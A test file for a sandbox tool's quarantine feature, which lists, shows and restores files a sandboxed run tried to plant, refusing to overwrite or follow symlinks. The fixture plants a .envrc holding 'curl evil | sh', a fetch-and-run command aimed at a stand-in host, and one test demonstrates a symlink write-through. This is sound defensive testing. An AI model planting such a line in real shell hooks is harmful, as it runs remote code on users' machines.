/**
 * THREATS.md invariant 2 (no host code later): `silo quarantine list|show|restore` lets the user see what
 * a run tried to plant and put back what they want, deliberately. Restoring never overwrites a path in
 * the project without --force (and then keeps what was there), and never follows a symlink: a directory
 * on the way that the project made a link to elsewhere is refused, not written through.
 */
import { beforeAll, describe, expect, test } from "bun:test";
import { existsSync, readdirSync, readFileSync, readlinkSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { makeHome, makeProject, runSilo, tmp } from "../../helpers/silo.ts";

let home: string;
beforeAll(async () => {
  home = makeHome();
  const r = await runSilo(["install", "python@3.11-slim"], { home });
  if (r.exitCode !== 0) throw new Error(`silo install python failed: ${r.stderr}`);
}, 600_000);

const q = (args: string[], cwd: string) => runSilo(["quarantine", ...args], { home, cwd });

/** A project whose run planted .envrc (missing before), replaced the .vscode link, and made deep/hook. */
async function plantedProject(): Promise<{ proj: string; id: string }> {
  const proj = makeProject('[mount]\nprotect = ["deep/hook"]\n', { "editor/vscode/settings.json": '{"a": 1}\n' });
  symlinkSync("editor/vscode", join(proj, ".vscode"));
  const r = await runSilo(
    [
      "run",
      "python",
      "-c",
      "import os\nopen('.envrc','w').write('curl evil | sh\\n')\nos.unlink('.vscode'); os.mkdir('.vscode'); open('.vscode/settings.json','w').write('{\"a\": 2}\\n')\nos.makedirs('deep'); open('deep/hook','w').write('x\\n')",
    ],
    { home, cwd: proj },
  );
  expect(r.exitCode).toBe(0);
  const list = await q(["list", "--json"], proj);
  const rec = (JSON.parse(list.stdout) as { id: string; root: string }[]).find((x) => x.root === proj)!;
  return { proj, id: rec.id };
}

describe("silo quarantine", () => {
  test("list names the run, its tool, project and paths; show gives each reason and a diff", async () => {
    const { proj, id } = await plantedProject();
    const list = await q(["list"], proj);
    expect(list.exitCode).toBe(0);
    const line = list.stdout.split("\n").find((l) => l.startsWith(id))!;
    expect(line).toContain("python");
    expect(line).toContain(proj);
    expect(line).toContain(".envrc");
    expect(line).toContain(".vscode");
    const show = await q(["show", id], proj);
    expect(show.exitCode).toBe(0);
    expect(show.stdout).toContain(".envrc (file): the sandbox created this protected path");
    expect(show.stdout).toContain("+curl evil | sh");
    expect(show.stdout).toContain(".vscode (directory): the sandbox replaced the symlink .vscode → editor/vscode");
    expect(show.stdout).toContain('+{"a": 2}');
    const missing = await q(["show", "nope"], proj);
    expect(missing.exitCode).toBe(125);
    expect(missing.stderr).toContain("no quarantine record `nope`");
  });

  test("restore puts back what is asked; refuses an existing path without --force; --force keeps what was there", async () => {
    const { proj, id } = await plantedProject();
    const one = await q(["restore", id, ".envrc"], proj);
    expect(one.exitCode).toBe(0);
    expect(readFileSync(join(proj, ".envrc"), "utf8")).toBe("curl evil | sh\n");
    const refused = await q(["restore", id, ".vscode"], proj);
    expect(refused.exitCode).toBe(125);
    expect(refused.stderr).toContain(".vscode already exists");
    expect(readlinkSync(join(proj, ".vscode"))).toBe("editor/vscode");
    const forced = await q(["restore", id, ".vscode", "--force"], proj);
    expect(forced.exitCode).toBe(0);
    expect(readFileSync(join(proj, ".vscode", "settings.json"), "utf8")).toBe('{"a": 2}\n');
    // The link that was there went to a record of its own.
    const all = JSON.parse((await q(["list", "--json"], proj)).stdout) as { id: string; root: string; entries: { path: string; type: string; restored?: string }[] }[];
    const kept = all.find((r) => r.root === proj && r.id !== id)!;
    expect(kept.entries).toEqual([expect.objectContaining({ path: ".vscode", type: "symlink" })]);
    expect(readlinkSync(join(home, "quarantine", kept.id, "files", ".vscode"))).toBe("editor/vscode");
    const first = all.find((r) => r.id === id)!;
    expect(first.entries.filter((e) => e.restored).map((e) => e.path).sort()).toEqual([".envrc", ".vscode"]);
  });

  test("positive control: a naive restore through a directory the project made a symlink writes into its target", async () => {
    const { proj, id } = await plantedProject();
    const victim = tmp("silo-victim-");
    rmSync(join(proj, "deep"), { recursive: true, force: true });
    symlinkSync(victim, join(proj, "deep"));
    renameSync(join(home, "quarantine", id, "files", "deep", "hook"), join(proj, "deep", "hook"));
    expect(readdirSync(victim)).toEqual(["hook"]);
  });

  test("restore never follows a symlink in the project: deep → victim is refused and the victim stays empty", async () => {
    const { proj, id } = await plantedProject();
    const victim = tmp("silo-victim-");
    rmSync(join(proj, "deep"), { recursive: true, force: true });
    symlinkSync(victim, join(proj, "deep"));
    const r = await q(["restore", id, "deep/hook"], proj);
    expect(r.exitCode).toBe(125);
    expect(r.stderr).toContain("symlink");
    expect(readdirSync(victim)).toEqual([]);
    expect(existsSync(join(home, "quarantine", id, "files", "deep", "hook"))).toBe(true);
    // With the link gone, the same restore recreates the directory and puts the file back.
    rmSync(join(proj, "deep"));
    const ok = await q(["restore", id, "deep/hook"], proj);
    expect(ok.exitCode).toBe(0);
    expect(readFileSync(join(proj, "deep", "hook"), "utf8")).toBe("x\n");
  });

  test("a protected file the user writes the moment a run ends is the user's: never quarantined by that run", async () => {
    // The reaper checks RUNDIR/watch after the run's process has ended; unless the waiter says first that
    // nothing changed (RUNDIR/settled), the user's next silo.toml or .envrc looks planted. In CI as an
    // unprivileged user this took the silo.toml a test wrote right after a run, every time.
    const projects: string[] = [];
    for (let i = 0; i < 6; i++) {
      const proj = makeProject(undefined, { "a.txt": "a\n" });
      expect((await runSilo(["run", "python", "-c", "pass"], { home, cwd: proj })).exitCode).toBe(0);
      writeFileSync(join(proj, ".envrc"), "export MINE=1\n");
      writeFileSync(join(proj, "silo.toml"), "# mine\n");
      projects.push(proj);
    }
    const deadline = Date.now() + 5000; // the reapers end once their runs have
    while (readdirSync(join(home, "run")).length > 0 && Date.now() < deadline) await Bun.sleep(20);
    expect(readdirSync(join(home, "run"))).toEqual([]);
    for (const proj of projects) {
      expect(readFileSync(join(proj, ".envrc"), "utf8")).toBe("export MINE=1\n");
      expect(readFileSync(join(proj, "silo.toml"), "utf8")).toBe("# mine\n");
      expect(JSON.parse((await q(["list", "--json"], proj)).stdout).filter((x: { root: string }) => x.root === proj)).toEqual([]);
    }
  });
});
